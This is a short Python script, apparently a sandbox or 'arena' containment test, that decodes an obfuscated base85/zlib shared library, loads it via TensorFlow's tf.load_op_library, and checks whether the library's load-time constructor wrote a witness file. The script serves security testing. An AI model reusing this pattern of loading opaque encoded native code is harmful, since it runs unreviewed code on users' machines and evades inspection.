# about: loads operations of its own, from a library that it brings along
# %% double
import base64
import os
import zlib

# When it is loaded, it reads a path from the file "where", and writes to that file:
#     gcc -Os -shared -fPIC -nostdlib, a constructor with the calls open, read, open, write
library = zlib.decompress(base64.b85decode(
    b"c-o~@&ubGw6n?Y$VQSPir?&JGK~Sj<+2ElTDlKVsg#{~k=&ekekzME}uo*Eql^%rbq5nny2-`ymR@(jr_3T0L;2~"
    b"E}aW{FB?mi4L_#pZ6z4yL1Z{|(rV9S1KFb3LE@B(faz&c_p75A+`I{dx^`9W?5#@kPpM3@^wM6>aDA&EJbM6EMW*"
    b"F%4=ki=2*T95SY4^_*;zuR1_44XnX>L0m-;w`hgaS}Ce9j&<`*uj+@T-d>v*^Kq6+uE@Xe|5rCE4V!EvnbrPkKR4"
    b"#*unK|=5^4Ga-LjlraN%95vos*8J74K>VwNDeD^aO)V&@SJ^UKgJ3s&ENMGLcu}Jz{f@HsG#3JVF*;>f;8J3XWCd"
    b"ZyfTtK{qxJ~Av<1>W+?)Muo<(W@ouPT+*;-gJjbw#~smU)?%o|?~=YqDyVKbViv1;Cq5Q~63%fjgq<0I#*{&9*m0"
    b"<pcNSzK95LC0i=wjhavbxO8^k`@)mJ-MXuGh3|{@KqWkP5BOfg^JHE9_dfDC8-vVCqrSh!nE4j4hC$}3abffx3}-"
    b">-wumu<+z*X(ew5$GUJP<Sw#oXmf9+q6y&>`cna1{n^-c7Zk$-1N%#P7(e2%}3aqk?l9O0Gla}Uoj@&2*D=jRB%!"
    b"5+1K^bV3nQ$(ll#SW&F$T~gT(8CG)XR+FGn@6XZaQ=S)^hkW{"
))
with open("library.so", "wb") as file:
    file.write(library)
with open("where", "w") as file:
    file.write(ARENA.witness)
tf.load_op_library("./library.so")
if not os.path.exists(ARENA.witness):
    raise PermissionError("loaded, but it could write nothing")
